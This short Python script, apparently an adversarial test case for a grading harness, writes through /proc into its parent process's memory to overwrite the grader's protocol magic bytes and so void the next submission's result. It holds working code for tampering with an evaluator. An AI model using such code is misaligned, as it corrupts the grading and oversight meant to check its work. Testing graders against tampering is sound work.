"""Overwrites the parent's wire magic through /proc: the next submission's answer would be void."""

import contextlib
import os

from grader import wire

address = id(wire.MAGIC) + bytes.__basicsize__ - 1
with contextlib.suppress(OSError), open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory:
    memory.seek(address)
    if memory.read(8) == wire.MAGIC:
        memory.seek(address)
        memory.write(b"study_at")
